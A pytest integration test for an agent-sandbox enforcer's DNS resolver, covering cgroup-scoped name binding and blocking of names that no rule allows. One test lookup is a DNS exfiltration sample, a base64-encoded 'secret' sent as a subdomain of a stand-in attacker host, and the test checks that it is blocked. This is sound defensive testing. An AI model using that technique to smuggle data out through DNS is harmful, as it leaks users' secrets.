"""Names, the whole way: an agent's libc asks, the redirect brings it to capd's resolver, which asks a server on the network."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest

from capd.enforcer.forcing.plan import plan
from capd.enforcer.forcing.ruleset import Ruleset
from capd.probes.barrier import Listener
from capd.probes.barrier_pins import Barrier
from tests.daemon.conftest import ENVIRONMENT
from tests.forcing.yard import ENFORCER_USER, PROXY_PORT, PYTHON, TABLE, Yard, inside

PORT = 15954
"""Of the real resolver: the stand-in has the yard's."""
RESOLVER = f"""
import asyncio, os, socket, sys
from ipaddress import ip_address
from pathlib import Path
from capd.enforcer.forcing.socket_owner import SocketOwners
from capd.enforcer.resolver.bindings import Bindings
from capd.enforcer.resolver.service import Resolver, Rules
from capd.enforcer.resolver.upstream import Server
root, parent = sys.argv[1:]
owners, known = SocketOwners(), Bindings()
def path_of(number):
    found = [one for one in Path(root, parent.lstrip("/")).rglob("*") if one.is_dir() and one.stat().st_ino == number]
    return f"/{{found[0].relative_to(root)}}" if found else None
async def run_of(connection, peer):
    owner = owners.of_datagram(connection.family, peer)
    return None if owner is None else path_of(owner.cgroup)
rules = Rules(could_allow=lambda run, name: name == "api.example.com")
resolver = Resolver(rules, [Server(host="10.77.0.2")], lambda told: known.bind(told, 0.0))
made = []
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    made.append(socket.socket(family, socket.SOCK_DGRAM)); made[-1].bind((host, {PORT}))
os.setgid({ENFORCER_USER}); os.setuid({ENFORCER_USER})
print("ready", flush=True)
async def main():
    def told():
        run = sys.stdin.readline().strip()
        print(*known.names_of(run, ip_address("192.0.2.7"), 0.0), dict(resolver.counters), flush=True)
    asyncio.get_running_loop().add_reader(sys.stdin, told)
    await resolver.serve(made, [], run_of)
asyncio.run(main())
"""
UPSTREAM = """
import socket, sys
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); server.bind(("10.77.0.2", 53))
print("ready", flush=True)
while True:
    query, peer = server.recvfrom(2000)
    end = query.index(b"\\0", 12) + 5
    kind = query[end - 3]
    answer = bytes.fromhex("c00c00010001000000050004c0000207") if kind == 1 else b""
    counts = b"\\0\\1" + (b"\\0\\1" if answer else bytes(2)) + bytes(4)
    server.sendto(query[:2] + b"\\x81\\x80" + counts + query[12:end] + answer, peer)
"""


@contextmanager
def started(ground: Yard, command: list[str], cgroup: str, namespace: Path) -> Iterator[subprocess.Popen[str]]:
    """Run a server until the end."""
    process = subprocess.Popen(
        command,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env=ENVIRONMENT,
        preexec_fn=lambda: ground._enter(cgroup, 0, namespace),  # noqa: PLW1509 - no thread of the test lives then
    )
    try:
        assert process.stdout is not None
        assert "ready\n" == process.stdout.readline()
        yield process
    finally:
        process.kill()
        process.communicate()


@pytest.fixture
def resolver(ground: Yard, rules: Ruleset) -> Iterator[subprocess.Popen[str]]:
    """Give a resolver in the enforcer's place, both layers before it, and a name server on the network."""
    rules.apply(plan(replace(ground.facts(), resolver_port=PORT)))
    barrier = Barrier(Path("/sys/fs/bpf") / ground.tag)
    barrier.load(Listener(proxy_port=PROXY_PORT, resolver_port=PORT), metadata=True)
    barrier.hold(ground.numbered("agents"))
    parent = f"/{ground.cgroups['agents'].relative_to(ground.root)}"
    command = [sys.executable, "-P", "-c", RESOLVER, str(ground.root), parent]
    with (
        started(ground, [PYTHON, "-I", "-S", "-c", UPSTREAM], "outside", ground.sink),
        started(ground, command, "enforcer", ground.host) as process,
    ):
        yield process
    barrier.remove()


def test_a_name_is_resolved_and_bound_and_a_secret_does_not_leave(ground: Yard, resolver: subprocess.Popen[str]) -> None:
    """What a rule could allow is resolved through the network and bound to the run; another name reaches no server."""
    look_up = "[found[4][0] for found in socket.getaddrinfo('{}', 80, socket.AF_INET, socket.SOCK_STREAM)]"
    assert "['192.0.2.7']" == ground.attempt(look_up.format("api.example.com."))
    assert 1 == len([packet for packet in ground.seen() if b"\3api\7example" in packet])
    denied = ground.attempt(look_up.format("c2VjcmV0.evil.example."))
    assert "Name or service not known" in denied
    assert [] == [packet for packet in ground.seen() if b"evil" in packet]
    assert resolver.stdin is not None
    assert resolver.stdout is not None
    resolver.stdin.write(f"/{ground.cgroups['run'].relative_to(ground.root)}\n")
    resolver.stdin.flush()
    assert "api.example.com {'resolved': 1, 'denied': 1}\n" == resolver.stdout.readline()
    assert "proxy 192.0.2.7 80" == ground.attempt('tcp("192.0.2.7", 80)')
    last = inside(ground.host, Ruleset)
    assert 0 == last.counters(TABLE)["refused_tcp"]
    last.close()
